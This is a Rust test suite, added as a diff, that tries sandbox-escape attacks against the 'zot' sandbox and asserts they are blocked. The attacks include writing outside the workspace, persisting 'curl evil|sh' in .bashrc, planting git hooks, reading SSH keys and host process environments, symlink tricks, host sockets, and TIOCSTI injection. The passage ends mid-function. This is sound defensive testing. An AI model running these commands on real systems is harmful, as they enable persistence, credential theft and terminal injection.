@@ -1,0 +1,965 @@
+//! The sandbox attack suite, parameterized by backend name, so every
+//! backend's test file can run it (`#[macro_use] #[path = "attacks/mod.rs"]
+//! mod attacks;` then `attack_tests!("bwrap");`). Each attack runs as root
+//! and as an unprivileged user (65534 via setpriv) when the test runs as
+//! root; the workspace, the binary and the "host" fixtures are made
+//! accessible to that user, so a refusal comes from the sandbox, not from
+//! file permissions (the controls prove the user could otherwise act).
+#![allow(dead_code)]
+
+use std::ffi::OsStr;
+use std::io::{BufRead, BufReader, Read};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use crate::common;
+
+pub const NOBODY: u32 = 65534;
+pub const PYTHON: &str = "/usr/bin/python3";
+
+/// One attack run: which backend, as whom, in a fresh workspace.
+pub struct Ctx {
+    pub backend: String,
+    pub unpriv: bool,
+    /// Keeps the fixture directory alive.
+    _dir: tempfile::TempDir,
+    /// The workspace (cwd of the sandbox, writable in workspace-write).
+    pub ws: PathBuf,
+    /// A directory outside the workspace that the user could write to.
+    pub outside: PathBuf,
+    /// A fake $HOME with .ssh/id_test and .bashrc (writable by the user).
+    pub home: PathBuf,
+}
+
+fn is_root() -> bool {
+    // SAFETY: geteuid has no preconditions.
+    unsafe { libc::geteuid() == 0 }
+}
+
+fn traversable(p: &Path) -> bool {
+    p.ancestors()
+        .all(|a| std::fs::metadata(a).is_ok_and(|m| m.permissions().mode() & 0o001 != 0))
+}
+
+/// A base directory outside /tmp (the sandbox hides the host /tmp, so
+/// fixtures there would be invisible rather than protected) that other
+/// users can traverse.
+fn base_dir() -> PathBuf {
+    let t = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
+    if traversable(&t) {
+        t
+    } else {
+        std::env::temp_dir()
+    }
+}
+
+/// The zot binary copied into a 0755 directory any user can run it from.
+pub fn shared_bin() -> &'static Path {
+    static BIN: OnceLock<PathBuf> = OnceLock::new();
+    BIN.get_or_init(|| {
+        let dir = tempfile::Builder::new()
+            .prefix("zot-bin-")
+            .tempdir_in(base_dir())
+            .unwrap()
+            .keep();
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let bin = dir.join("zot");
+        std::fs::copy(common::zot_bin(), &bin).unwrap();
+        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
+        bin
+    })
+}
+
+fn chown_r(p: &Path, uid: u32) {
+    let _ = std::os::unix::fs::lchown(p, Some(uid), Some(uid));
+    if std::fs::symlink_metadata(p).is_ok_and(|m| m.is_dir()) {
+        for e in std::fs::read_dir(p).unwrap().flatten() {
+            chown_r(&e.path(), uid);
+        }
+    }
+}
+
+pub fn bwrap_works() -> bool {
+    Command::new("bwrap")
+        .args([
+            "--unshare-user",
+            "--unshare-pid",
+            "--unshare-net",
+            "--ro-bind",
+            "/",
+            "/",
+            "--proc",
+            "/proc",
+            "--dev",
+            "/dev",
+            "true",
+        ])
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success())
+}
+
+/// Whether the tests for `backend` can run here; skips (or fails under
+/// ZOT_TEST_MUST_WORK=1) otherwise.
+pub fn available(backend: &str, unpriv: bool) -> bool {
+    if unpriv
+        && !common::require(
+            "root (to switch to an unprivileged user)",
+            is_root(),
+            "tests run unprivileged already",
+        )
+    {
+        return false;
+    }
+    if unpriv
+        && !common::require(
+            "setpriv",
+            Path::new("/usr/bin/setpriv").exists(),
+            "util-linux setpriv missing",
+        )
+    {
+        return false;
+    }
+    if !common::require(
+        "python3",
+        Path::new(PYTHON).exists(),
+        "/usr/bin/python3 missing",
+    ) {
+        return false;
+    }
+    match backend {
+        "bwrap" => common::require(
+            "bwrap",
+            bwrap_works(),
+            "bubblewrap missing or cannot create namespaces",
+        ),
+        _ => true,
+    }
+}
+
+impl Ctx {
+    /// A fresh fixture, or None when the backend is unavailable here.
+    pub fn new(backend: &str, unpriv: bool) -> Option<Ctx> {
+        if !available(backend, unpriv) {
+            return None;
+        }
+        let _ = shared_bin();
+        let dir = tempfile::Builder::new()
+            .prefix("zot-attack-")
+            .tempdir_in(base_dir())
+            .unwrap();
+        let root = dir.path().to_path_buf();
+        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let ws = root.join("ws");
+        let outside = root.join("outside");
+        let home = root.join("home");
+        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(ws.join("readme.txt"), "inside\n").unwrap();
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::write(outside.join("victim"), "original\n").unwrap();
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        std::fs::write(home.join(".ssh/id_test"), "SECRET-KEY-MATERIAL\n").unwrap();
+        std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+        for p in [&ws, &outside, &home] {
+            make_open(p);
+        }
+        if unpriv {
+            chown_r(&root, NOBODY);
+        }
+        Some(Ctx {
+            backend: backend.to_string(),
+            unpriv,
+            _dir: dir,
+            ws,
+            outside,
+            home,
+        })
+    }
+
+    /// `zot sandbox` as the test user, with the fake HOME, in the workspace.
+    pub fn zot(&self) -> Command {
+        let mut cmd = if self.unpriv {
+            let mut c = Command::new("/usr/bin/setpriv");
+            c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"]);
+            c.arg(shared_bin());
+            c
+        } else {
+            Command::new(shared_bin())
+        };
+        cmd.env_clear()
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
+            .env("HOME", &self.home)
+            .env("LANG", "C.UTF-8")
+            .current_dir(&self.ws)
+            .stdin(Stdio::null());
+        cmd
+    }
+
+    /// Arguments for `zot sandbox` in `mode` with this backend.
+    pub fn sandbox_args(&self, mode: &str) -> Vec<String> {
+        vec![
+            "sandbox".into(),
+            "--backend".into(),
+            self.backend.clone(),
+            "--mode".into(),
+            mode.into(),
+        ]
+    }
+
+    /// Run `sh -c script` in the sandbox.
+    pub fn sh(&self, mode: &str, extra: &[&str], script: &str) -> Output {
+        let mut cmd = self.zot();
+        cmd.args(self.sandbox_args(mode))
+            .args(extra)
+            .args(["--", "/bin/sh", "-c", script]);
+        run_limited(cmd, Duration::from_secs(30))
+    }
+
+    /// Run a python3 program in the sandbox.
+    pub fn py(&self, mode: &str, extra: &[&str], program: &str) -> Output {
+        let mut cmd = self.zot();
+        cmd.args(self.sandbox_args(mode))
+            .args(extra)
+            .args(["--", PYTHON, "-c", program]);
+        run_limited(cmd, Duration::from_secs(30))
+    }
+
+    fn who(&self) -> &'static str {
+        if self.unpriv {
+            "unprivileged"
+        } else {
+            "root"
+        }
+    }
+}
+
+fn make_open(p: &Path) {
+    let m = std::fs::symlink_metadata(p).unwrap();
+    if m.file_type().is_symlink() {
+        return;
+    }
+    let mode = if m.is_dir() { 0o777 } else { 0o666 };
+    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
+    if m.is_dir() {
+        for e in std::fs::read_dir(p).unwrap().flatten() {
+            make_open(&e.path());
+        }
+    }
+}
+
+/// Run with a hard limit so a broken sandbox cannot hang the suite.
+pub fn run_limited(mut cmd: Command, limit: Duration) -> Output {
+    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
+    let mut child = cmd.spawn().expect("spawn zot");
+    let mut out = child.stdout.take().unwrap();
+    let mut err = child.stderr.take().unwrap();
+    let t1 = std::thread::spawn(move || {
+        let mut v = Vec::new();
+        let _ = out.read_to_end(&mut v);
+        v
+    });
+    let t2 = std::thread::spawn(move || {
+        let mut v = Vec::new();
+        let _ = err.read_to_end(&mut v);
+        v
+    });
+    let start = Instant::now();
+    let status = loop {
+        if let Some(s) = child.try_wait().unwrap() {
+            break s;
+        }
+        if start.elapsed() > limit {
+            let _ = child.kill();
+            panic!("zot did not finish within {limit:?}");
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    };
+    Output {
+        status,
+        stdout: t1.join().unwrap(),
+        stderr: t2.join().unwrap(),
+    }
+}
+
+pub fn text(o: &Output) -> String {
+    format!(
+        "exit {:?}\n--- stdout\n{}--- stderr\n{}",
+        o.status.code(),
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+fn expect_ok(ctx: &Ctx, what: &str, o: &Output) {
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "[{} {}] control {what} must succeed:\n{}",
+        ctx.backend,
+        ctx.who(),
+        text(o)
+    );
+}
+
+/// The sandbox ran the script (not a setup failure) and the script's
+/// attack step failed (the script prints BLOCKED when the step fails).
+fn expect_blocked(ctx: &Ctx, what: &str, o: &Output) {
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        o.status.code() == Some(0) && out.contains("BLOCKED") && !out.contains("ESCAPED"),
+        "[{} {}] attack {what} was not blocked:\n{}",
+        ctx.backend,
+        ctx.who(),
+        text(o)
+    );
+}
+
+fn q(p: &Path) -> String {
+    format!("'{}'", p.display())
+}
+
+// ------------------------------------------------------------------ controls
+
+pub fn control_write_read_inside_cwd(ctx: &Ctx) {
+    let o = ctx.sh("workspace-write", &[], "echo hello > new.txt && cat new.txt && cat readme.txt && mkdir -p sub/dir && echo x > sub/dir/f");
+    expect_ok(ctx, "write+read inside cwd", &o);
+    assert_eq!(
+        std::fs::read_to_string(ctx.ws.join("new.txt")).unwrap(),
+        "hello\n"
+    );
+    assert!(String::from_utf8_lossy(&o.stdout).contains("inside"));
+}
+
+pub fn control_read_os_release(ctx: &Ctx) {
+    let o = ctx.sh("workspace-write", &[], "cat /etc/os-release");
+    expect_ok(ctx, "read /etc/os-release", &o);
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("ID="),
+        "{}",
+        text(&o)
+    );
+}
+
+pub fn control_private_tmp_and_own_unix_socket(ctx: &Ctx) {
+    let prog = r#"
+import socket, os, threading
+p = '/tmp/own.sock'
+s = socket.socket(socket.AF_UNIX); s.bind(p); s.listen(1)
+c = socket.socket(socket.AF_UNIX); c.connect(p)
+a, _ = s.accept(); c.sendall(b'ping'); assert a.recv(4) == b'ping'
+print('OK')
+"#;
+    let o = ctx.py("workspace-write", &[], prog);
+    expect_ok(ctx, "own unix socket in private /tmp", &o);
+}
+
+pub fn read_only_mode_refuses_cwd_writes(ctx: &Ctx) {
+    let o = ctx.sh(
+        "read-only",
+        &[],
+        "cat readme.txt >/dev/null || exit 9; echo x > ro.txt && echo ESCAPED || echo BLOCKED",
+    );
+    expect_blocked(ctx, "write cwd in read-only mode", &o);
+    assert!(!ctx.ws.join("ro.txt").exists());
+}
+
+// ------------------------------------------------------------------ filesystem
+
+pub fn write_outside_cwd(ctx: &Ctx) {
+    let victim = ctx.outside.join("victim");
+    let script = format!(
+        "echo x > {new} && echo ESCAPED; echo x >> {victim} && echo ESCAPED; echo x > ../escaped && echo ESCAPED; echo BLOCKED",
+        new = q(&ctx.outside.join("new")),
+        victim = q(&victim)
+    );
+    let o = ctx.sh("workspace-write", &[], &script);
+    expect_blocked(ctx, "write outside cwd", &o);
+    assert!(!ctx.outside.join("new").exists());
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
+    assert!(!ctx.ws.parent().unwrap().join("escaped").exists());
+}
+
+pub fn write_etc(ctx: &Ctx) {
+    let name = format!("/etc/zot-attack-{}", std::process::id());
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        &format!("echo x > {name} && echo ESCAPED; echo BLOCKED"),
+    );
+    let existed = Path::new(&name).exists();
+    let _ = std::fs::remove_file(&name);
+    expect_blocked(ctx, "write /etc", &o);
+    assert!(!existed, "/etc written");
+}
+
+pub fn write_bashrc(ctx: &Ctx) {
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        "echo 'curl evil|sh' >> \"$HOME/.bashrc\" && echo ESCAPED; echo BLOCKED",
+    );
+    expect_blocked(ctx, "write ~/.bashrc", &o);
+    assert_eq!(
+        std::fs::read_to_string(ctx.home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+}
+
+pub fn read_ssh_key(ctx: &Ctx) {
+    // The sandbox keeps HOME from the environment; use the host path too.
+    let key = ctx.home.join(".ssh/id_test");
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        &format!(
+            "cat \"$HOME\"/.ssh/id_* {k} 2>/dev/null; ls \"$HOME/.ssh\" 2>/dev/null; echo BLOCKED",
+            k = q(&key)
+        ),
+    );
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        !out.contains("SECRET-KEY-MATERIAL") && !out.contains("id_test"),
+        "[{} {}] ssh key readable:\n{}",
+        ctx.backend,
+        ctx.who(),
+        text(&o)
+    );
+    expect_blocked(ctx, "read ~/.ssh", &o);
+}
+
+pub fn symlink_preplanted(ctx: &Ctx) {
+    std::os::unix::fs::symlink(ctx.outside.join("via-link"), ctx.ws.join("planted")).unwrap();
+    std::os::unix::fs::symlink(ctx.outside.join("victim"), ctx.ws.join("planted2")).unwrap();
+    if ctx.unpriv {
+        chown_r(&ctx.ws, NOBODY);
+    }
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        "echo x > planted && echo ESCAPED; echo x >> planted2 && echo ESCAPED; echo BLOCKED",
+    );
+    expect_blocked(ctx, "write through a pre-planted symlink", &o);
+    assert!(!ctx.outside.join("via-link").exists());
+    assert_eq!(
+        std::fs::read_to_string(ctx.outside.join("victim")).unwrap(),
+        "original\n"
+    );
+}
+
+pub fn symlink_fresh(ctx: &Ctx) {
+    let script = format!(
+        "ln -s {t} fresh && echo x > fresh && echo ESCAPED; ln -s {d} dirlink && echo x > dirlink/f && echo ESCAPED; echo BLOCKED",
+        t = q(&ctx.outside.join("fresh-target")),
+        d = q(&ctx.outside)
+    );
+    let o = ctx.sh("workspace-write", &[], &script);
+    expect_blocked(ctx, "write through a fresh symlink", &o);
+    assert!(!ctx.outside.join("fresh-target").exists());
+    assert!(!ctx.outside.join("f").exists());
+}
+
+pub fn git_hooks_and_config(ctx: &Ctx) {
+    let script = "echo 'evil' > .git/hooks/pre-commit && echo ESCAPED; echo '[alias] x = !evil' >> .git/config && echo ESCAPED; \
+                  rm -rf .git/hooks && echo ESCAPED; echo BLOCKED";
+    let o = ctx.sh("workspace-write", &[], script);
+    expect_blocked(ctx, "write .git/hooks and .git/config", &o);
+    assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
+    assert!(ctx.ws.join(".git/hooks").is_dir());
+    assert_eq!(
+        std::fs::read_to_string(ctx.ws.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+}
+
+pub fn protected_paths_missing(ctx: &Ctx) {
+    std::fs::remove_dir_all(ctx.ws.join(".git")).unwrap();
+    let script = "mkdir -p .git/hooks && echo ESCAPED; git init -q . 2>/dev/null && echo ESCAPED; mkdir .zot && echo ESCAPED; \
+                  echo x > .agents && echo ESCAPED; echo x > ro-dir/new && echo ESCAPED; echo BLOCKED";
+    let o = ctx.sh("workspace-write", &["--read-only-path", "ro-dir"], script);
+    expect_blocked(ctx, "create missing protected paths", &o);
+    for p in [".git", ".zot", ".agents", "ro-dir"] {
+        assert!(
+            !ctx.ws.join(p).exists(),
+            "{p} exists on the host after the run (attack or leftover placeholder)"
+        );
+    }
+}
+
+pub fn rename_git_aside(ctx: &Ctx) {
+    let script = "mv .git .git-old && echo ESCAPED; mkdir -p .git/hooks 2>/dev/null; echo evil > .git/hooks/pre-commit && echo ESCAPED; \
+                  cp -r .git .git2 2>/dev/null; echo BLOCKED";
+    let o = ctx.sh("workspace-write", &[], script);
+    expect_blocked(ctx, "rename .git aside and write into it", &o);
+    assert!(ctx.ws.join(".git/hooks").is_dir() && !ctx.ws.join(".git-old").exists());
+    assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
+}
+
+pub fn nested_repo_hooks(ctx: &Ctx) {
+    std::fs::create_dir_all(ctx.ws.join("vendor/lib/.git")).unwrap();
+    std::fs::write(ctx.ws.join("vendor/lib/.git/config"), "[core]\n").unwrap();
+    make_open(&ctx.ws.join("vendor"));
+    if ctx.unpriv {
+        chown_r(&ctx.ws, NOBODY);
+    }
+    let script = "mkdir vendor/lib/.git/hooks && echo ESCAPED; echo x >> vendor/lib/.git/config && echo ESCAPED; \
+                  echo ok > vendor/lib/file || exit 9; echo BLOCKED";
+    let o = ctx.sh("workspace-write", &[], script);
+    expect_blocked(ctx, "create .git/hooks in a nested repo", &o);
+    assert!(!ctx.ws.join("vendor/lib/.git/hooks").is_dir());
+    assert_eq!(
+        std::fs::read_to_string(ctx.ws.join("vendor/lib/.git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert!(ctx.ws.join("vendor/lib/file").exists());
+}
+
+pub fn hardlink_from_outside(ctx: &Ctx) {
+    let script = format!(
+        "ln {v} hl && echo x >> hl && echo ESCAPED; echo BLOCKED",
+        v = q(&ctx.outside.join("victim"))
+    );
+    let o = ctx.sh("workspace-write", &[], &script);
+    expect_blocked(ctx, "hardlink a file from outside and write it", &o);
+    assert_eq!(
+        std::fs::read_to_string(ctx.outside.join("victim")).unwrap(),
+        "original\n"
+    );
+}
+
+// ------------------------------------------------------------------ network
+
+pub fn tcp_loopback(ctx: &Ctx) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let prog = format!(
+        "import socket\ns=socket.socket()\ns.settimeout(2)\ntry:\n s.connect(('127.0.0.1',{port})); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n"
+    );
+    let o = ctx.py("workspace-write", &[], &prog);
+    expect_blocked(ctx, "tcp connect to host loopback", &o);
+    assert!(listener.accept().is_err(), "host listener got a connection");
+}
+
+pub fn unix_socket_host_path(ctx: &Ctx) {
+    // A socket in a host temp dir (hidden) and one under the visible fixture dir's parent /tmp-like place.
+    let dir = tempfile::Builder::new()
+        .prefix("zot-sock-")
+        .tempdir_in(std::env::temp_dir())
+        .unwrap();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
+    let path = dir.path().join("host.sock");
+    let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
+    l.set_nonblocking(true).unwrap();
+    let prog = format!(
+        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect({p:?}); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n",
+        p = path.display().to_string()
+    );
+    let o = ctx.py("workspace-write", &[], &prog);
+    expect_blocked(ctx, "connect to a host unix socket (path)", &o);
+    assert!(l.accept().is_err(), "host unix listener got a connection");
+}
+
+pub fn unix_socket_host_abstract(ctx: &Ctx) {
+    use std::os::linux::net::SocketAddrExt;
+    let name = format!("zot-attack-{}-{}", std::process::id(), ctx.unpriv);
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    l.set_nonblocking(true).unwrap();
+    let prog = format!(
+        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect('\\0{name}'); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n"
+    );
+    let o = ctx.py("workspace-write", &[], &prog);
+    expect_blocked(ctx, "connect to a host abstract unix socket", &o);
+    assert!(
+        l.accept().is_err(),
+        "host abstract listener got a connection"
+    );
+}
+
+// ------------------------------------------------------------------ processes
+
+struct HostProc(std::process::Child);
+impl Drop for HostProc {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn host_sleeper(ctx: &Ctx) -> HostProc {
+    let mut cmd = if ctx.unpriv {
+        let mut c = Command::new("/usr/bin/setpriv");
+        c.args([
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            "--",
+            "/bin/sleep",
+            "60",
+        ]);
+        c
+    } else {
+        let mut c = Command::new("/bin/sleep");
+        c.arg("60");
+        c
+    };
+    cmd.env("ZOT_HOST_SECRET", "HOST-ENV-SECRET")
+        .stdin(Stdio::null());
+    HostProc(cmd.spawn().unwrap())
+}
+
+pub fn host_process_ptrace_kill_environ(ctx: &Ctx) {
+    let victim = host_sleeper(ctx);
+    let pid = victim.0.id();
+    let prog = format!(
+        r#"
+import ctypes, os, signal
+libc = ctypes.CDLL(None, use_errno=True)
+pid = {pid}
+esc = []
+if libc.ptrace(16, pid, 0, 0) == 0: esc.append('ptrace')
+try:
+    os.kill(pid, 0); esc.append('kill')
+except OSError: pass
+try:
+    if b'HOST-ENV-SECRET' in open('/proc/%d/environ' % pid, 'rb').read(): esc.append('environ')
+except OSError: pass
+print('ESCAPED ' + ','.join(esc) if esc else 'BLOCKED')
+"#
+    );
+    let o = ctx.py("workspace-write", &[], &prog);
+    expect_blocked(ctx, "ptrace/kill/environ of a host process", &o);
+    drop(victim);
+}
+
+pub fn host_pids_invisible(ctx: &Ctx) {
+    let victim = host_sleeper(ctx);
+    let pid = victim.0.id();
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        &format!("n=$(ls /proc | grep -c '^[0-9]*$'); [ -e /proc/{pid} ] && echo ESCAPED; [ \"$n\" -gt 20 ] && echo ESCAPED $n; echo BLOCKED"),
+    );
+    expect_blocked(ctx, "see host PIDs", &o);
+}
+
+pub fn parent_secret_env(ctx: &Ctx) {
+    let mut cmd = ctx.zot();
+    cmd.env("ZOT_TEST_API_TOKEN", "PARENT-SECRET")
+        .env("AWS_SECRET_ACCESS_KEY", "PARENT-SECRET")
+        .env("VISIBLE_VAR", "seen");
+    cmd.args(ctx.sandbox_args("workspace-write")).args([
+        "--env-allow",
+        "VISIBLE_VAR",
+        "--",
+        "/bin/sh",
+        "-c",
+        "env; cat /proc/1/environ /proc/$PPID/environ 2>/dev/null; echo BLOCKED",
+    ]);
+    let o = run_limited(cmd, Duration::from_secs(30));
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        !out.contains("PARENT-SECRET"),
+        "[{} {}] secret env leaked:\n{}",
+        ctx.backend,
+        ctx.who(),
+        text(&o)
+    );
+    assert!(
+        out.contains("VISIBLE_VAR=seen"),
+        "allowed variable missing:\n{}",
+        text(&o)
+    );
+    expect_blocked(ctx, "read the parent's secret env", &o);
+}
+
+// ------------------------------------------------------------------ kernel surface
+
+pub fn mount_refused(ctx: &Ctx) {
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        "mkdir m; mount -t tmpfs none m 2>/dev/null && echo ESCAPED; mount --bind / m 2>/dev/null && echo ESCAPED; echo BLOCKED",
+    );
+    expect_blocked(ctx, "mount", &o);
+}
+
+pub fn nested_userns_refused(ctx: &Ctx) {
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        "unshare -U true 2>/dev/null && echo ESCAPED; unshare -Ur true 2>/dev/null && echo ESCAPED; unshare -rm true 2>/dev/null && echo ESCAPED; echo BLOCKED",
+    );
+    expect_blocked(ctx, "nested user namespace", &o);
+}
+
+pub fn chroot_refused(ctx: &Ctx) {
+    let o = ctx.sh(
+        "workspace-write",
+        &[],
+        "chroot / /bin/true 2>/dev/null && echo ESCAPED; echo BLOCKED",
+    );
+    expect_blocked(ctx, "chroot", &o);
+}
+
+pub fn io_uring_refused(ctx: &Ctx) {
+    let prog = r#"
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+params = ctypes.create_string_buffer(120)
+fd = libc.syscall(425, 4, params)
+print('ESCAPED' if fd >= 0 else 'BLOCKED %d' % ctypes.get_errno())
+"#;
+    let o = ctx.py("workspace-write", &[], prog);
+    expect_blocked(ctx, "io_uring", &o);
+}
+
+pub fn no_new_privs_and_seccomp_on(ctx: &Ctx) {
+    let prog = r#"
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+st = open('/proc/self/status').read()
+nnp = [l for l in st.splitlines() if l.startswith('NoNewPrivs:')][0].split()[1]
+sec = [l for l in st.splitlines() if l.startswith('Seccomp:')][0].split()[1]
+caps = [l for l in st.splitlines() if l.startswith('CapEff:')][0].split()[1]
+bnd = [l for l in st.splitlines() if l.startswith('CapBnd:')][0].split()[1]
+# try to turn no_new_privs off (PR_SET_NO_NEW_PRIVS=38, 0)
+off = libc.prctl(38, 0, 0, 0, 0)
+esc = []
+if nnp != '1': esc.append('nnp=' + nnp)
+if sec != '2': esc.append('seccomp=' + sec)
+if int(caps, 16) != 0: esc.append('caps=' + caps)
+if int(bnd, 16) != 0 and __import__('os').getuid() == 0: esc.append('bounding=' + bnd)
+if off == 0 and open('/proc/self/status').read().count('NoNewPrivs:\t0'): esc.append('nnp-off')
+print('ESCAPED ' + ','.join(esc) if esc else 'BLOCKED')
+"#;
+    let o = ctx.py("workspace-write", &[], prog);
+    expect_blocked(ctx, "no_new_privs off / capabilities", &o);
+}
+
+pub fn tiocsti_injection(ctx: &Ctx) {
+    // A pty made the controlling terminal of a child: TIOCSTI is allowed by
+    // the kernel there (without CAP_SYS_ADMIN) unless seccomp refuses it.
+    // Also try the request with high bits set (32-bit compare).
+    let prog = r#"
+import os, fcntl, ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+esc = []
+try:
+    open('/dev/tty'); esc.append('has-ctty')
+except OSError: pass
+m, s = os.openpty()
+name = os.ttyname(s)
+pid = os.fork()
+if pid == 0:
+    os.setsid()
+    fd = os.open(name, os.O_RDWR)
+    c = ctypes.c_char(b'x')
+    r1 = libc.ioctl(fd, 0x5412, ctypes.byref(c))
+    r2 = libc.syscall(16, fd, 0x5412 | (1 << 32), ctypes.byref(c))
+    os._exit(1 if (r1 == 0 or r2 == 0) else 0)
+_, st = os.waitpid(pid, 0)
+if os.waitstatus_to_exitcode(st) != 0: esc.append('tiocsti')
+print('ESCAPED ' + ','.join(esc) if esc else 'BLOCKED')
+"#;
+    let o = ctx.py("workspace-write", &[], prog);
+    expect_blocked(ctx, "TIOCSTI injection", &o);
+}
+
+fn host_has_process_with_arg(marker: &str) -> bool {
+    std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
+        std::fs::read(e.path().join("cmdline"))
+            .is_ok_and(|c| c.split(|b| *b == 0).any(|a| a == marker.as_bytes()))
+    })
+}
+
+pub fn orphan_grandchild_dies(ctx: &Ctx) {
+    let marker = format!("1000.{}{}", std::process::id(), ctx.unpriv as u8);
+    let o = ctx.sh("workspace-write", &[], &format!("(setsid sleep {marker} >/dev/null 2>&1 &); (sleep {marker} >/dev/null 2>&1 &); echo BLOCKED"));
+    expect_blocked(ctx, "orphaned grandchild", &o);
+    let start = Instant::now();
+    while host_has_process_with_arg(&marker) {
+        assert!(
+            start.elapsed() < Duration::from_secs(3),
+            "[{} {}] grandchild survived the sandbox",
+            ctx.backend,
+            ctx.who()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+// ------------------------------------------------------------------ supervisor behaviour
+
+pub fn timeout_kills_tree(ctx: &Ctx) {
+    let marker = format!("1001.{}{}", std::process::id(), ctx.unpriv as u8);
+    let start = Instant::now();
+    let o = ctx.sh(
+        "workspace-write",
+        &["--timeout", "1"],
+        &format!("sleep {marker} & setsid sleep {marker} & sleep {marker}"),
+    );
+    let took = start.elapsed();
+    assert_eq!(
+        o.status.code(),
+        Some(124),
+        "[{} {}] timeout exit code:\n{}",
+        ctx.backend,
+        ctx.who(),
+        text(&o)
+    );
+    assert!(took < Duration::from_secs(8), "timeout took {took:?}");
+    let start = Instant::now();
+    while host_has_process_with_arg(&marker) {
+        assert!(
+            start.elapsed() < Duration::from_secs(3),
+            "[{} {}] process tree survived the timeout",
+            ctx.backend,
+            ctx.who()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+pub fn output_flood_capped(ctx: &Ctx) {
+    let start = Instant::now();
+    let o = ctx.sh(
+        "workspace-write",
+        &["--max-output", "1000"],
+        "head -c 20000000 /dev/zero; head -c 5000000 /dev/zero >&2; echo done >&2",
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert_eq!(o.stdout.len(), 1000, "stdout not capped");
+    assert!(
+        o.stderr.len() < 1000 + 200,
+        "stderr not capped: {}",
+        o.stderr.len()
+    );
+    assert!(start.elapsed() < Duration::from_secs(20));
+}
+
+pub fn signal_forwarding(ctx: &Ctx) {
+    let mut cmd = ctx.zot();
+    cmd.args(ctx.sandbox_args("workspace-write")).args([
+        "--",
+        "/bin/sh",
+        "-c",
+        "trap 'echo got-term; exit 7' TERM; echo ready; while :; do sleep 0.05; done",
+    ]);
+    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    let mut out = BufReader::new(child.stdout.take().unwrap());
+    let mut line = String::new();
+    out.read_line(&mut line).unwrap();
+    assert_eq!(line.trim(), "ready");
+    std::thread::sleep(Duration::from_millis(100));
+    // SAFETY: plain kill(2) on our child.
+    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
+    let mut rest = String::new();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let status = loop {
+        if let Some(s) = child.try_wait().unwrap() {
+            break s;
+        }
+        if Instant::now() > deadline {
+            let _ = child.kill();
+            panic!("zot did not exit after SIGTERM");
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    };
+    out.read_to_string(&mut rest).unwrap();
+    assert!(
+        rest.contains("got-term"),
+        "[{} {}] TERM not forwarded: {rest}",
+        ctx.backend,
+        ctx.who()
+    );
+    assert_eq!(status.code(), Some(7));
+}
+
+pub fn exit_code_mapping(ctx: &Ctx) {
+    let code = |o: &Output| o.status.code();
